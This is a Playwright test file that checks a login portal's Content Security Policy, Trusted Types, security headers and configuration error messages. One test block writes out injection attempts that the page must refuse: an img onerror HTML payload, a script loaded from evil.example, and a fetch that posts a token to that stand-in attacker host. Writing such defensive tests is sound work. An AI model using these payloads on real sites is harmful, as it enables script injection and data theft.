import { expect, logIn, signIn, test } from './journey.ts'

test("no file blocks the login page's first render", async ({ page }) => {
  await page.goto('/')
  await expect(page.getByLabel('Email address')).toBeVisible()
  const blocking = await page.evaluate(() =>
    performance
      .getEntriesByType('resource')
      .filter((entry) => 'renderBlockingStatus' in entry && entry.renderBlockingStatus === 'blocking')
      .map(({ name }) => new URL(name).pathname),
  )
  expect(blocking).toEqual([])
})

test('what is served forbids frames around it, foreign scripts and text that becomes HTML', async ({ request }) => {
  for (const address of ['/', '/app/home/', '/assets/gone.js']) {
    const response = await request.get(address, { headers: { Accept: 'text/html' } })
    expect(response.status()).toBe(address.startsWith('/assets') ? 404 : 200)
    const policy = response.headers()['content-security-policy'] ?? ''
    expect(policy).not.toMatch(/unsafe|nonce|ws:/)
    expect(policy).toMatch(/default-src 'none'.*frame-ancestors 'none'; require-trusted-types-for 'script'/)
    expect(response.headers()).toMatchObject({ 'x-content-type-options': 'nosniff', 'referrer-policy': 'no-referrer' })
  }
})

test.describe('a script injected into the page', () => {
  test.use({
    breaksThePage: true,
    forbids: /Trusted ?(HTML|Script|Types?)|Content Security Policy/,
  })

  test('[AUTH-1] turns no text into HTML or a script, and reaches no other host', async ({ page }) => {
    await signIn(page, 'employee@acme.example')
    const result = await page.evaluate(async () => {
      const attempt = async (work: () => unknown): Promise<string> => {
        try {
          await work()
          return 'done'
        } catch (error) {
          return error instanceof Error ? error.name : 'refused'
        }
      }
      const script = (fill: (element: HTMLScriptElement) => void) => () => {
        const element = document.createElement('script')
        fill(element)
        document.head.append(element)
      }
      return {
        html: await attempt(() => document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=stolen=1>')),
        text: await attempt(script((element) => (element.text = 'window.stolen = 1'))),
        address: await attempt(script((element) => (element.src = 'https://evil.example/x.js'))),
        policy: await attempt(() => {
          const maker = Reflect.get(window, 'trustedTypes') as TrustedTypesMaker // the browser of the journeys has them
          return maker.createPolicy('mine', { createHTML: (html: string) => html })
        }),
        again: await attempt(() => {
          const maker = Reflect.get(window, 'trustedTypes') as TrustedTypesMaker // as above
          return maker.createPolicy('portal-html', { createHTML: (html: string) => html })
        }),
        call: await attempt(() => fetch('https://evil.example/', { method: 'POST', body: 'token' })),
      }
    })
    expect(result).toEqual({
      html: 'TypeError',
      text: 'TypeError',
      address: 'TypeError',
      policy: 'TypeError',
      again: 'TypeError',
      call: 'TypeError',
    })
    expect(await page.evaluate(() => 'stolen' in window)).toBe(false)
  })
})

test.describe('a script that comes later', () => {
  test.use({ breaksThePage: true, forbids: /Trusted ?(HTML|Script|Types?)|Content Security Policy/ })

  test('[AUTH-1] makes none of the portal’s policies before the portal does', async ({ page }) => {
    await page.goto('/')
    await expect(page.getByLabel('Email address')).toBeVisible()
    const made = await page.evaluate(() => {
      const maker = Reflect.get(window, 'trustedTypes') as TrustedTypesMaker // the browser of the journeys has them
      const rules = { createHTML: (text: string) => text, createScriptURL: (text: string) => text }
      return ['portal-html', 'portal-captcha', 'portal-worker', 'dompurify', 'default', 'portal'].filter((name) => {
        try {
          maker.createPolicy(name, rules)
          return true
        } catch {
          return false // the page's policy refuses it, or it is taken
        }
      })
    })
    expect(made).toEqual([])
  })

  test('[AUTH-1] sees no call by putting its own fetch in the place of the browser’s', async ({ page }) => {
    await page.goto('/')
    await expect(page.getByLabel('Email address')).toBeVisible()
    await page.evaluate(() => {
      const seen: string[] = []
      Object.assign(window, { seen })
      window.fetch = (input) => {
        seen.push(input instanceof Request ? input.url : input.toString())
        return Promise.reject(new TypeError('Failed to fetch'))
      }
    })
    await page.getByRole('button', { name: 'Accept' }).click()
    await logIn(page, 'employee@acme.example')
    await page.waitForURL('**/app/home/')
    await expect(page.getByRole('heading', { level: 1, name: /^Hello/ })).toBeVisible()
    expect(await page.evaluate(() => Reflect.get(window, 'seen'))).toEqual([])
  })
})

test.describe('an invalid configuration', () => {
  test.use({ breaksThePage: true })
  const configurations = [
    ['', 'Error: The page holds no portal configuration (#portal-config).'],
    ['{"hosts":', 'Error: The portal configuration (#portal-config) is not JSON.'],
    ['{"hosts":{"legacy":"https://a.example"}}', 'Error: The portal configuration is wrong at hosts.versioned.'],
  ] as const
  for (const [config, sentence] of configurations)
    test(`is reported in one sentence: ${sentence}`, async ({ page }) => {
      await page.route('/', async (route) => {
        const response = await route.fetch()
        const body = (await response.text()).replace(/(id="portal-config"[^>]*>)[^<]*/, (_, open) => open + config)
        await route.fulfill({ response, body })
      })
      await page.goto('/')
      await expect(page.getByRole('alert')).toHaveText(sentence)
    })
})
